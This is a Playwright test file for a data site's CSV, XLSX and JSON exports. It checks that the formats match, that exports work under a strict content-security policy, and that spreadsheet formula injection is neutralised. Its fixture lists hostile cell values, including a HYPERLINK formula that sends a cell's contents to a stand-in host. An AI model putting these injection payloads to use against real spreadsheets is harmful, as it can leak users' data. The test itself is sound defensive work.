import type { Locator, Page } from '@playwright/test';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import * as v from 'valibot';
import { replaceFile } from '../../support/dataFaults';
import { readData } from '../../support/data';
import { ExportDialog } from '../../pages/exportDialog';
import { readCsv, readTable, downloadFrom, readWorkbook } from '../../support/downloads';
import { expect, test } from '../../support/test';
import { message, type Language } from '../../support/messages';

/* Tables export without errors, whatever the host's policy. */

const anyObject = v.record(v.string(), v.unknown());

interface Taken {
  readonly subject: string;
  readonly language: Language;
  readonly show: (page: Page) => Promise<Locator>;
  readonly file: RegExp;
}

const subjects: readonly Taken[] = [
  {
    subject: 'a figure',
    language: 'en',
    show: async (page) => {
      const dialog = new ExportDialog(page);
      await dialog.open('/en/indicators/ghg_scope3/');
      return dialog.root;
    },
    file: /^esg-peer-ledger_ghg_scope3_2024_en_\d{4}\.\d+$/,
  },
  {
    subject: 'a company',
    language: 'zh-Hant',
    show: async (page) => {
      await page.goto('/zh-Hant/companies/qiniu/');
      return page.getByRole('main');
    },
    file: /^esg-peer-ledger_qiniu_\d{4}-\d{4}_zh-Hant_\d{4}\.\d+$/,
  },
  {
    subject: 'everything',
    language: 'zh-Hans',
    show: async (page) => {
      await page.goto('/zh-Hans/data/');
      return page.getByRole('main');
    },
    file: /^esg-peer-ledger_all_\d{4}-\d{4}_zh-Hans_\d{4}\.\d+$/,
  },
];

const texts = ['figure_id', 'company', 'indicator', 'state_id', 'unit', 'printed'];
const numbers = ['value', 'value_shown', 'value_low', 'value_high', 'year', 'line'];

test.describe('under a strict policy', () => {
  // The policy is tried out on purpose.
  test.use({ expectedErrors: /Creating a worker from 'blob:/ });
  for (const { subject, language, show, file } of subjects) {
    test(`${subject} is exported as CSV, XLSX and JSON with the same rows`, async ({
      page,
      request,
    }) => {
      const place = await show(page);
      expect(await page.evaluate(blobWorkerRuns)).toBe(false);
      const take = async (format: string) => {
        const download = await downloadFrom(
          page,
          place.getByRole('button', { name: format, exact: true }),
        );
        expect(download.name.replace(/\.\w+$/, '')).toMatch(file);
        return download.bytes;
      };
      const csv = readCsv(await take('CSV'));
      const [figures, sources, dictionary] = await readWorkbook(await take('XLSX'));
      const json = readTable(await take('JSON'));

      expect(csv.length).toBeGreaterThan(3);
      expect(figures?.name).toBe(message(language, 'table.sheet.figures'));
      expect(sources?.name).toBe(message(language, 'table.sheet.sources'));
      expect(dictionary?.name).toBe(message(language, 'table.sheet.columns'));
      expect(sources?.rows[0]).toMatchObject({
        source_id: 'esg-peer-ledger',
        licence: 'CC BY 4.0',
      });
      expect(json.language).toBe(language);
      const comparable = (row: Readonly<Record<string, unknown>>) => [
        ...texts.map((id) => row[id] ?? ''),
        ...numbers.map((id) => row[id] ?? null),
      ];
      const expected = csv.map((line) => [
        ...texts.map((id) => line[id]),
        ...numbers.map((id) => (line[id] === '' ? null : Number(line[id]))),
      ]);
      expect(figures?.rows.map(comparable)).toEqual(expected);
      expect(json.rows.map(comparable)).toEqual(expected);

      expect(json.$schema).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/schema\//);
      const schema = v.parse(anyObject, await (await request.get(json.$schema)).json());
      const validate = new Ajv2020({ allErrors: true, allowUnionTypes: true }).compile(schema);
      validate(json);
      expect(validate.errors).toBeNull();
    });
  }
});

test('everything is every printed number, each at its line', async ({ page }) => {
  await page.goto('/en/data/');
  const { bytes } = await downloadFrom(
    page,
    page.getByRole('button', { name: 'CSV', exact: true }),
  );
  const told = new Set(
    readCsv(bytes).flatMap((line) =>
      [line['line'] ?? '', ...(line['second_value_lines'] ?? '').split('|')].map((item) =>
        [line['company_id'], line['indicator_id'], line['year'], item].join(),
      ),
    ),
  );
  const printed = observations().map((row) =>
    [row['company'], row['indicator'], row['year'], row['line']].join(),
  );
  expect(printed.length).toBeGreaterThan(500);
  expect(printed.filter((item) => !told.has(item))).toEqual([]);
});

/** What a spreadsheet would calculate, or push into a cell of its own. */
const attacks = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '\t=1',
  '\tplain',
  '\r=1',
  '\rplain',
  ' =1+1',
  '=HYPERLINK("https://example.com/?"&A1,"open")',
];

test('a package of hostile text is safe as CSV and XLSX, and a negative number stays one', async ({
  page,
}) => {
  const rows = observations();
  const own = rows.filter((row) => row['company'] === 'qiniu');
  const hostile = new Map(attacks.map((attack, index) => [own[index], attack]));
  const negative = own[attacks.length];
  const poisoned = rows.map((row) => ({
    ...row,
    label_printed: hostile.get(row) ?? row['label_printed'],
    ...(row === negative ? { value: '-5.20', printed: '-5.20' } : {}),
  }));
  const csvText = `${Papa.unparse(poisoned, { newline: '\n' })}\n`;
  await replaceFile(page, 'observations.csv', csvText);
  await page.goto('/en/companies/qiniu/');
  const take = async (name: string) =>
    (await downloadFrom(page, page.getByRole('button', { name, exact: true }))).bytes;

  const csv = readCsv(await take('CSV'));
  const labels = csv.map((line) => line['label_printed']);
  // Line ends of a file are read alike, within cells too.
  const read = attacks.map((attack) => attack.replace('\r', '\n'));
  // Behind a tab or a line break, which may end a cell, the formula has an apostrophe of its own.
  const kept = read.map((attack) => `'${attack.replace(/(?<=^[\t\n])=/, "'=")}`);
  expect(labels).toEqual(expect.arrayContaining(kept));
  // No cell that holds text begins with what is calculated.
  const begins = csv.flatMap((line) =>
    Object.entries(line).filter(
      ([id, text]) => !numbers.includes(id) && /^[\s]*[=+\-@＝＋－＠]|^[\t\r]/u.test(text),
    ),
  );
  // A number as printed is text: it is kept from the spreadsheet, the typed number beside it is not.
  expect(begins).toEqual([]);
  const line = csv.find(({ line: at, value }) => at === negative?.['line'] && value !== '');
  expect(line).toMatchObject({ value: '-5.20', printed: "'-5.20" });

  const bytes = await take('XLSX');
  const [figures] = await readWorkbook(bytes);
  const typed = figures?.rows.map((row) => row['label_printed']) ?? [];
  for (const attack of read) expect(typed).toContain(attack);
  expect(figures?.rows.map((row) => row['value'])).toContain(-5.2);
  const parts = Object.entries(unzipSync(bytes));
  for (const [name, part] of parts) expect(strFromU8(part), name).not.toMatch(/<f[ >/]/);
});

function observations(): readonly Readonly<Record<string, string>>[] {
  return Papa.parse<Record<string, string>>(readData('observations.csv'), {
    header: true,
    skipEmptyLines: true,
  }).data;
}

/** Whether the page may run a worker made from a blob: the policy is in force where it may not. */
function blobWorkerRuns(): Promise<boolean> {
  return new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    worker.onmessage = () => resolve(true);
    worker.onerror = () => resolve(false);
  });
}
